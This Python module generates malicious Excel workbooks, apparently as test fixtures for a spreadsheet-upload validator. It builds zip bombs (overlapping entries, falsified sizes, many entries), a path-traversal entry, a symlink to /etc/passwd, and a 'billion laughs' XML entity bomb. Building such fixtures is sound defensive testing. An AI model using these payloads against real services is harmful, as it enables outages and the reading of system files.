"""Workbooks made to harm whoever opens them, small on disk."""

import io
import struct
import zipfile
import zlib
from hashlib import sha256


def overlapping(copies: int = 250, unpacked: int = 8_000_000) -> bytes:
    """Many entries that all point at one compressed kernel: 20 kB for 2 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(unpacked)) + packer.flush()
    check = zlib.crc32(bytes(unpacked))
    sizes = struct.pack("<III", check, len(kernel), unpacked)
    name = b"xl/worksheets/sheet.xml"
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes
    local += struct.pack("<HH", len(name), 0) + name
    body = local + kernel
    directory = b""
    for number in range(copies):
        entry = name.replace(b"sheet", b"s%04d" % number)[: len(name)]
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        directory += struct.pack("<HHHHHII", len(entry), 0, 0, 0, 0, 0, 0) + entry
    end = struct.pack("<HHHHIIH", 0, 0, copies, copies, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def packed_tight(unpacked: int = 40_000_000) -> bytes:
    return zipped({"xl/worksheets/sheet1.xml": bytes(unpacked)})


def packed_in_many(parts: int = 40, each: int = 2_000_000) -> bytes:
    """Each part within bounds, packed no tighter than a list may be; all of them together not."""
    noise = b"".join(sha256(bytes([n])).digest() for n in range(32))
    block = b"".join(noise[start : start + 500] * 40 for start in range(0, 500, 50))
    return zipped({f"xl/media/{n}.bin": (block * (each // len(block))) for n in range(parts)})


def many_entries(count: int = 60_000) -> bytes:
    return zipped({f"xl/{number}.xml": b"" for number in range(count)})


def outside(name: str) -> bytes:
    return zipped({name: b"x"})


def linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        link = zipfile.ZipInfo("xl/workbook.xml")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def lying(claimed: int = 10) -> bytes:
    """Claims to be small in its directory and is not."""
    content = bytearray(zipped({"xl/worksheets/sheet1.xml": bytes(70_000_000)}, level=9))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.index(signature) + offset
        content[place : place + 4] = struct.pack("<I", claimed)
    return bytes(content)


def many_rows(rows: int = 1_000_000) -> bytes:
    """A real workbook with a million rows; every cell a short inline string."""
    head = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    row = b'<row><c t="inlineStr"><is><t>name</t></is></c></row>'
    return workbook(head + row * rows + b"</sheetData></worksheet>")


def entities() -> bytes:
    """Billion laughs: entities that grow at every step."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{steps}]>'
    text += '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    text += (
        '<sheetData><row><c t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>'
    )
    return workbook(text.encode())


def workbook(sheet: bytes) -> bytes:
    """The smallest workbook around one sheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zipped(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType='
                '"application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
                f'<Override PartName="/xl/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{package}"><Relationship Id="a" '
                f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
                '<sheet name="a" sheetId="1" r:id="s"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{package}"><Relationship Id="s" '
                f'Type="{office}/worksheet" Target="sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/sheet1.xml": sheet,
        }
    )


def zipped(parts: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()
